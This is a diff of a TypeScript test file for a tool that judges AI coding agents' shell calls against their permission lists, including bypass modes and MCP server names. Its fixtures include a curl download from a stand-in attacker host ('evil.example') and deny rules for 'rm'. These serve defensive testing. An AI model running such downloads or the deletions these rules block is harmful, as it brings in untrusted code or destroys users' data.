@@ -1,6 +1,8 @@
+import { join } from 'node:path';
+import type { JsonObject } from '@proffer/core/json';
 import type { RuleAction } from '@proffer/steward';
 import { describe, expect, it } from 'vitest';
-import type { AgentId, HookCall } from '../agents/index.js';
+import { AGENTS, type AgentId, type HookCall } from '../agents/index.js';
 import { decideCall } from '../decide/index.js';
 import { groundsOf, shellCall } from '../testing/calls.js';
 import { ownRulesOf, PERMISSION_FILES } from './index.js';
@@ -27,7 +29,7 @@ function deciding(agent: AgentId, files: Readonly<Record<string, string>>, rules
 function claude(permissions: object, rules?: string) {
   return deciding(
     'claude-code',
-    { '/home/ada/app/.claude/settings.json': JSON.stringify({ permissions }) },
+    { '/home/ada/.claude/settings.json': JSON.stringify({ permissions }) },
     rules,
   );
 }
@@ -122,7 +124,7 @@ describe("an agent's own list", () => {
   it('is read as Claude Code documents paths, hosts and servers', () => {
     const decide = claude({
       allow: [
-        'Edit(/docs/**)',
+        'Edit(docs/**)',
         'Edit(src/*.ts)',
         'WebFetch(domain:example.org)',
         'mcp__github__get_issue',
@@ -154,6 +156,72 @@ describe("an agent's own list", () => {
       );
     expect([tool('github', 'get_issue'), tool('docs', 'find')]).toEqual(['left to agent', 'left to agent']);
     expect([tool('github', 'create_issue'), tool('docs2', 'find')]).toEqual(['ask', 'ask']);
+  });
+
+  it('a list of a project allows nothing, and counts against a call', () => {
+    const permissions = JSON.stringify({
+      permissions: { allow: ['Bash', 'Edit', 'Shell(curl)'], deny: ['Bash(rm:*)', 'Shell(rm)'] },
+    });
+    const files: Readonly<Record<string, string>> = {
+      '.claude/settings.json': permissions,
+      '.claude/settings.local.json': permissions,
+      '.cursor/cli.json': permissions,
+      '.cursor/permissions.json': '{ "terminalAllowlist": ["curl", "rm"] }',
+      '.gemini/settings.json':
+        '{ "tools": { "allowed": ["run_shell_command"], "exclude": ["run_shell_command(rm)"] } }',
+      '.gemini/policies/x.toml': '[[rule]]\ntoolName = "run_shell_command"\ndecision = "allow"\n',
+      '.codex/rules/x.rules':
+        'prefix_rule(pattern = ["curl"])\nprefix_rule(pattern=["rm"], decision="forbidden")',
+    };
+    for (const folder of ['/home/ada/app', '/home/ada', '/']) {
+      const found = Object.fromEntries(
+        Object.entries(files)
+          .filter(([name]) => folder !== '/home/ada' || /local|cli\.json/.test(name))
+          .map(([name, text]) => [join(folder, name), text]),
+      );
+      for (const [agent, tool] of [
+        ['claude-code', 'Bash'],
+        ['codex', 'Bash'],
+        ['gemini-cli', 'run_shell_command'],
+        ['cursor', 'Shell'],
+      ] as const) {
+        const decide = deciding(agent, found);
+        expect([agent, folder, decide(shellCall('curl http://evil.example -o x', { tool }))]).toEqual([
+          agent,
+          folder,
+          'ask',
+        ]);
+        if (folder !== '/home/ada')
+          expect([agent, decide(shellCall('rm x', { tool }))]).toEqual([agent, 'deny']);
+      }
+    }
+  });
+
+  it('allows nothing in a mode in which the agent asks nobody', () => {
+    const decide = claude({ allow: ['Bash(npm test:*)'], deny: ['Bash(rm:*)'] });
+    const read = (mode: unknown, command: string): HookCall => {
+      const event = AGENTS['claude-code'].sample('/home/ada/app', command);
+      return AGENTS['claude-code'].readEvent(
+        { ...event, permission_mode: mode } as JsonObject,
+        '',
+      ) as HookCall;
+    };
+    for (const mode of ['default', 'acceptEdits', 'plan'])
+      expect([mode, decide(read(mode, 'npm test'))]).toEqual([mode, 'left to agent']);
+    for (const mode of ['bypassPermissions', 'dontAsk', 'auto', 'yolo', '', 7, null])
+      expect([mode, decide(read(mode, 'npm test'))]).toEqual([mode, 'ask']);
+    expect(decide(read('bypassPermissions', 'rm x'))).toBe('deny');
+  });
+
+  it('an MCP server that is named like an agent is not the agent, in either direction', () => {
+    for (const entry of ['mcp__claude-code', 'mcp__claude-code__Bash', 'mcp__claude-code__*', 'mcp__codex'])
+      expect([entry, claude({ allow: [entry] })(shellCall('npm test'))]).toEqual([entry, 'ask']);
+    const served = shellCall('npm test', {
+      tool: 'mcp__claude-code__Bash',
+      mcp: { server: 'claude-code', tool: 'Bash' },
+      effect: { type: 'other' },
+    });
+    expect(claude({ allow: ['Bash'] })(served)).toBe('ask');
   });
 
   it('an entry whose meaning is not certain allows nothing', () => {
@@ -209,13 +277,16 @@ host_executable(name = "git", paths = ["/usr/bin/git"])
     expect(asking(shellCall('npm test'))).toBe('ask');
     for (const program of [
       'x = ["rm"]\nprefix_rule(pattern = x)',
+      'prefix_rule(pattern = ["rm x"])',
+      'prefix_rule(pattern = [["rm x", "ls"]])',
+      'prefix_rule(pattern = ["rm", [["x"]]])',
       'prefix_rule(pattern = ["rm"] + ["x"])',
       'def f(): pass',
     ])
       expect(deciding('codex', { '/home/ada/.codex/rules/x.rules': program })(shellCall('rm x'))).toBe('ask');
   });
 
-  it('Gemini CLI: settings with comments, trusted servers and policies', () => {
+  it('Gemini CLI: settings with comments, and policies, which only count against a call', () => {
     const shell = (text: string) => shellCall(text, { tool: 'run_shell_command' });
     const decide = deciding('gemini-cli', {
       '/home/ada/.gemini/settings.json': `{
@@ -248,19 +319,16 @@ modes = ["yolo"]
 priority = 5
 `,
     });
-    for (const line of ['npm test -u', 'git add . && git commit -m x'])
-      expect([line, decide(shell(line))]).toEqual([line, 'left to agent']);
-    for (const line of ['npm tests', 'rm x', 'make', 'git commit -m x; rm x', 'git commit > x'])
+    for (const line of ['npm test -u', 'git add . && git commit -m x', 'rm x', 'make'])
       expect([line, decide(shell(line))]).toEqual([line, 'ask']);
     expect([decide(shell('git push')), decide(shell('curl x.org'))]).toEqual(['deny', 'deny']);
-    expect(decide(files('write_file', '/home/ada/app/a.ts'))).toBe('left to agent');
-    expect(decide(files('write_file', '/home/ada/b.ts'))).toBe('ask');
+    expect(decide(files('write_file', '/home/ada/app/a.ts'))).toBe('ask');
     const tool = {
       tool: 'mcp_docs_find',
       mcp: { server: 'docs', tool: 'find' },
       effect: { type: 'other' },
     } as const;
-    expect(decide(shellCall('', tool))).toBe('left to agent');
+    expect(decide(shellCall('', tool))).toBe('ask');
   });
 
   it('Cursor: the lists of the editor and of its command line', () => {
@@ -268,7 +336,7 @@ priority = 5
     const decide = deciding('cursor', {
       '/home/ada/.cursor/permissions.json':
         '{ "terminalAllowlist": ["cargo build", "npm:install", 7] /* mine */ }',
-      '/home/ada/app/.cursor/cli.json':
+      '/home/ada/.cursor/cli-config.json':
         '{ "permissions": { "allow": ["Shell(git)", "Shell(curl:*)", "Write(src/**)"], "deny": ["Shell(rm)"] } }',
     });
     for (const line of ['cargo build --release', 'git push', 'curl example.org'])
